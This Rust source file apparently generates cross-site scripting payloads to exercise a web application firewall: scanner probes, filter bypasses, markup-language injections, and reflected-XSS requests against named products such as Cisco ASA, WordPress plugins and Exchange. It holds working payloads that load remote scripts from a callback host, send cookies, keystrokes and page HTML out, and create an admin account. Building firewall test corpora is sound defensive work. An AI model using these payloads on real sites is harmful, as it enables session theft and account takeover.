//! Script in pages: what scanners insert, what waits for somebody else's browser, what beats filters in bounty reports,
//! light markup, and reflected parameters of known products.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{Part, Wire};
use super::tools::{Shot, callback, form, parts, path, query, sent};

const IN_TARGETS: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::HtmlEntity,
    Encoding::JsEscape,
    Encoding::Base64,
    Encoding::Utf7,
];
const STORED: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape, Encoding::HtmlEntity, Encoding::Case];
const AS_WRITTEN: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape, Encoding::DoublePercent];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload(
        "xss-scanner-probes",
        AttackClass::Xss,
        37,
        probes,
        &[Place::Query, Place::Form, Place::Cookie],
        IN_TARGETS,
    ),
    payload(
        "xss-blind-loaders",
        AttackClass::Xss,
        32,
        loaders,
        &[Place::Form, Place::Json, Place::Multipart, Place::Header],
        STORED,
    ),
    payload("xss-bounty-bypasses", AttackClass::Xss, 38, bounty, Place::INPUTS, AS_WRITTEN),
    payload(
        "xss-light-markup",
        AttackClass::Xss,
        30,
        markup,
        &[Place::Form, Place::Json, Place::Multipart],
        AS_WRITTEN,
    ),
    request("xss-reflected-products", AttackClass::Xss, 30, products),
];

/// Marked tags and attributes of AWVS, Netsparker, ZAP, Burp, AppScan, xray and of the old polyglots.
fn probes(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(1000, 999_999), rng.token(4));
    let (lower, hex) = (rng.letters(5), rng.hex(6));
    match rng.below(18) {
        0 => format!("'\"()&%<acx><ScRiPt >prompt({n})</ScRiPt>"),
        1 => format!("\"onmouseover=prompt({n}) bad=\""),
        2 => format!("{lower}<script>{word}({n})</script>{hex}"),
        3 => format!("'\"--></style></scRipt><scRipt>netsparker(0x{hex})</scRipt>"),
        4 => format!("</span><scrIpt>alert({n});</scRipt><span>"),
        5 => format!("{lower}\"><img src=a onerror=alert({n})>{hex}"),
        6 => format!("<ScRiPt/zdl>prompt({n})</ScRiPt>"),
        7 => format!("\"'><svG onLoad=prompt({n})>"),
        8 => format!("';alert(String.fromCharCode(88,{},83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>", n % 90),
        9 => format!("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert({n}) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert({n})//>\\x3e"),
        10 => format!("1}}body{{acu:Expre/**/SSion(prompt({n}))}}"),
        11 => format!("<img src=//xss.bxss.me/t/dot.gif?{hex} onload=prompt({n})>"),
        12 => format!("<isindex type=image src=1 onerror=prompt({n})>"),
        13 => format!("<body onload=prompt({n})>{lower}"),
        14 => format!("'\"><IMG SRC=\"/{word}.js\" ONERROR=alert({n})>"),
        15 => format!("<% contenteditable onresize=prompt({n})>"),
        16 => format!("<iframe src='data:text/html;base64,{}' invalid='{word}'>", codec::base64(format!("<body onload=prompt({n})>"))),
        _ => format!("{hex}&n{n}='onmouseover='prompt({n})'bad='"),
    }
    .into_bytes()
}

/// Left in a form and run later in an administrator's browser: a script from elsewhere, his cookies, his page, his clicks.
fn loaders(rng: &mut Rng) -> Vec<u8> {
    let (away, word) = (callback(rng), rng.letters(4));
    let load =
        format!("var a=document.createElement('script');a.src='https://{away}/{word}';document.body.appendChild(a)");
    match rng.below(13) {
        0 => format!("</tExtArEa>'\"><sCRiPt sRC=//{away}/{word}></sCrIpT>"),
        1 => format!("\"><input onfocus=eval(atob(this.id)) id={} autofocus>", codec::base64(&load)),
        2 => format!("'\"><img src=x id={} onerror=eval(atob(this.id))>", codec::base64(&load)),
        3 => format!("<img src=x onerror=s=createElement('script');body.appendChild(s);s.src='//{away}/{word}';>"),
        4 => format!("<script>$.getScript(\"//{away}/{word}.js\")</script>"),
        5 => format!("\"><video><source onerror=eval(atob(this.id)) id={}>", codec::base64(&load)),
        6 => format!("<script>function b(){{eval(this.responseText)}};a=new XMLHttpRequest();a.addEventListener(\"load\",b);a.open(\"GET\",\"//{away}/{word}\");a.send();</script>"),
        7 => format!("<script>document.write('<img src=http://{away}/{word}?'+escape(document.cookie)+'>')</script>"),
        8 => format!("<script>fetch('/admin/user/add',{{method:'POST',credentials:'include',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{user:'{word}',role:1}})}})</script>"),
        9 => format!("<script>document.onkeypress=function(e){{new Image().src='//{away}/{word}?k='+e.key}}</script>"),
        10 => format!("</script><script>navigator.serviceWorker.register('/upload/{word}.js')</script>"),
        11 => format!("<script>with(document.forms[0]){{action='https://{away}/{word}';onsubmit=null}}</script>"),
        _ => format!("<svg/onload=\"(new Image).src='//{away}/{word}?'+btoa(document.documentElement.outerHTML)\">"),
    }
    .into_bytes()
}

/// Published ways past well-known firewalls.
fn bounty(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(1, 9999), rng.letters(3));
    let away = callback(rng);
    match rng.below(22) {
        0 => format!("<dETAILS\nopen\nonToGgle\n=\na=prompt,a({n}) x>"),
        1 => format!("<svg onx=() onload=(confirm)({n})>"),
        2 => format!("<img src=x onerror=alert&lpar;{n}&rpar;>{word}"),
        3 => format!("<d3\"<\"/onclick=\" {n}>[confirm``]\"<\">z"),
        4 => format!("<a/href=\"j\n\ravascript:{{var{{3:s,2:h,5:a,0:v,4:n,1:e}}='earltv'}}[self][0][v+a+e+s](e+s+v+h+n)(/{word}/.source)\">click"),
        5 => format!("<x/onclick=globalThis['\\u0070r\\u006f'+'mpt']('{n}')>{word}"),
        6 => format!("<iframe/src=javascript&colon;[document&period;domain].find(alert)>{word}"),
        7 => format!("<button onclick=\"window['al'+/{word}/.source.slice(3)+'ert'](document.domain,{n})\">x"),
        8 => format!("<div style=content-visibility:auto oncontentvisibilityautostatechange=alert({n})>{word}"),
        9 => format!("<xss onscrollsnapchange=alert({n}) style=overflow:auto;scroll-snap-type:x><p style=scroll-snap-align:end>{word}"),
        10 => format!("<marquee loop=1 width=0 onfinish=confirm({n})>{word}"),
        11 => format!("<svg/onload=window[\"al\"+\"ert\"]`{n}{word}`"),
        12 => format!("<style>@property --x{{}}</style><input id={word} onwebkitanimationend=alert({n}) style=\"-webkit-animation:spin 1s\">"),
        13 => format!("<a href=# onauxclick='[{n}].some(confirm)'>{word}"),
        14 => format!("<script>[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]['constructor']('alert({n})')()</script>{word}"),
        15 => format!("<object data='data:text/html;;;;;base64,{}'>", codec::base64(format!("<script>alert({n})</script>"))),
        16 => format!("<embed/src=//{away}/{word}.swf allowscriptaccess=always>"),
        17 => format!("\"`'><script>\\x0Djavascript:alert({n})</script>{word}").replace("\\x0D", "\r"),
        18 => format!("<img/src=`{word}`onerror=this['ow'+'nerDocument']['def'+'aultView']['al'+'ert']({n})>"),
        19 => format!("<script>var{{a:onerror}}={{a:alert}};throw {n}</script>{word}"),
        20 => format!("<script>toString=()=>alert({n});self+'{word}'</script>"),
        _ => format!("<a\x0chref=javascript:\\u{{61}}lert({n})\x0c>{word}</a>"),
    }
    .into_bytes()
}

/// Markdown, BBCode, TeX, diagrams, foreign namespaces: text that becomes HTML later.
fn markup(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(1, 9999), rng.letters(5));
    let away = callback(rng);
    match rng.below(15) {
        0 => format!("[{word}](javascript:prompt({n}))"),
        1 => format!("![{word}](\"onerror=\"alert({n}))"),
        2 => format!("[{word}](j&#x61;v&#x41;sc&#x52;ipt:alert({n}))"),
        3 => format!("[url=javascript:alert(String.fromCharCode({n}))]{word}[/url]"),
        4 => format!("[img]x\" onerror=\"alert({n})\" a=\"{word}[/img]"),
        5 => format!("[color=red\" onmouseover=\"alert({n})]{word}[/color]"),
        6 => format!("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert({n})//{word}</x:script>"),
        7 => format!("\\href{{javascript:alert({n})}}{{{word}}}"),
        8 => format!("graph TD\nA[{word}]-->B\nclick A \"javascript:alert({n})\""),
        9 => format!("<{word}:x xmlns:{word}='http://www.w3.org/2000/svg' onload='fetch(`//{away}`)'/>"),
        10 => format!("{word} <javascript:alert({n})>"),
        11 => format!("[{word}]: data:text/html;base64,{}", codec::base64(format!("<script>alert({n})</script>"))),
        12 => format!("[video src=\"{word}\" onerror=\"$.getScript('//{away}')\"][/video]"),
        13 => format!("{{\"ops\":[{{\"insert\":\"{word}\",\"attributes\":{{\"link\":\"javascript:alert({n})\"}}}}]}}"),
        _ => format!("<?xml-stylesheet type=\"text/xsl\" href=\"data:,<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><script xmlns='http://www.w3.org/1999/xhtml'>alert({n})</script></x:template></x:stylesheet>\"?><{word}/>"),
    }
    .into_bytes()
}

/// Pages of products that give a parameter back, as lists of templates ask them.
fn products(rng: &mut Rng) -> Shot {
    let (n, word) = (rng.between(1, 9999), rng.letters(4));
    let away = callback(rng);
    match rng.below(16) {
        0 => form(
            "/+CSCOE+/saml/sp/acs?tgname=a",
            format!("SAMLResponse=%22%3E%3Csvg/onload=alert({n})%3E&RelayState={word}"),
            rng,
        ),
        1 => path(format!("/php/change_password.php/%22%3E%3Csvg%2Fonload%3Dalert%28{n}%29%3E"), rng),
        2 => query(
            format!("/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<body+x=%27&%27onload=%22(alert)({n})%22>")
                .replace('<', "%3C")
                .replace('>', "%3E"),
            rng,
        ),
        3 => query(
            format!(
                "/swagger-ui/index.html?configUrl=data:text/html;base64,{}",
                codec::base64(format!("{{\"url\":\"https://{away}/{word}.yaml\"}}"))
            ),
            rng,
        ),
        4 => query(
            format!(
                "/autodiscover/autodiscover.json?a..{word}@evil.example/owa/?&Email=autodiscover/autodiscover.json?a=%3Cscript%3Ealert({n})%3C/script%3E"
            ),
            rng,
        ),
        5 => query(
            format!(
                "/wp-admin/admin-ajax.php?action=tie_get_user_weather&options=%7B%27location%27%3A%27Cairo%27%2C%27units%27%3A%27C%27%2C%27forecast_days%27%3A%27{n}%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E{word}%27%7D"
            ),
            rng,
        ),
        6 => query(
            format!("/wp-content/plugins/{word}/preview.php?title=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert({n})%3E"),
            rng,
        ),
        7 => path(
            format!("/secure/{word}/..;/ViewUserHover.default.jspa?username=%3Cimg%20src=1%20onerror=confirm({n})%3E"),
            rng,
        ),
        8 => query(
            format!(
                "/ReportServer?op=fr_base&cmd=evaluate_formula&__locale__=zh%22%3E%3Cscript%3Ealert({n})%3C/script%3E"
            ),
            rng,
        ),
        9 => query(format!("/tiki-index.php?page='%22%3E%3Cscript%3Ealert({n})%3C/script%3E{word}"), rng),
        10 => form(
            "/general/calendar/affair/add.php",
            format!("CONTENT=%3Cimg+src%3D1+onerror%3Dalert%28{n}%29%3E&CAL_TYPE=1&{word}=1"),
            rng,
        ),
        11 => query(format!("/plus/flink.php?dopost=save&c=%22%3E%3Csvg+onload%3Dalert({n})%3E{word}"), rng),
        12 => {
            let picture = format!(
                "<?xml version=\"1.0\" standalone=\"no\"?><svg version=\"1.1\" xmlns=\"http://www.w3.org/2000/svg\"><polygon points=\"0,0 0,50 50,0\"/><script type=\"text/javascript\">alert({n});</script></svg>"
            );
            parts("/api/user/avatar", &[Part::file("avatar", &format!("{word}.svg"), "image/svg+xml", picture)], rng)
        }
        13 => (
            sent(
                Wire::get("/error404")
                    .header("Referer", format!("http://{word}.example/\"><script>alert({n})</script>")),
                rng,
            ),
            Place::Header,
            Encoding::Plain,
        ),
        14 => (
            sent(
                Wire::get("/")
                    .header("X-Forwarded-Host", format!("{away}\"></script><script src=//{away}/{word}.js></script>")),
                rng,
            ),
            Place::Header,
            Encoding::Plain,
        ),
        _ => query(
            format!(
                "/index.php?m=content&c=index&a=search&keyword=%27%22%3E%3Cdetails%20open%20ontoggle=alert({n})%3E&siteid=1&{word}"
            ),
            rng,
        ),
    }
}
